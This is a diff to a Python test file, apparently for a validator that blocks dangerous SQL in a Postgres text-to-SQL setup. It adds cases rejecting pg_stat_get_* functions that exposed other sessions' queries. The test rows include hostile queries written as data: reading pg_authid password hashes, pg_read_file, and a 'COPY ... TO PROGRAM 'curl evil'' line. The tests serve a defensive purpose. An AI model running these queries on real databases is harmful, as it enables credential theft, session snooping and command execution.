@@ -58,6 +58,9 @@ def test_accepts_the_spider_subset_in_the_postgres_dialect() -> None:
     ("SELECT pg_notify('c', 'x')", "pg_notify"),
     ("SELECT \"PG_READ_FILE\"('x')", "not allowed"),
     ("SELECT query FROM pg_stat_activity", "table pg_stat_activity is not allowed"),
+    # Issue 39, item 9: the function behind the view listed the other pooled sessions.
+    ("SELECT * FROM pg_stat_get_activity(NULL)", "pg_stat_get_activity is not allowed"),
+    ("SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s", "pg_stat_get_"),
     ("SELECT rolpassword FROM pg_catalog.pg_authid", "table pg_authid is not allowed"),
     ("SELECT * FROM pg_settings", "table pg_settings is not allowed"),
     ("COPY launches TO PROGRAM 'curl evil'", "found COPY"),
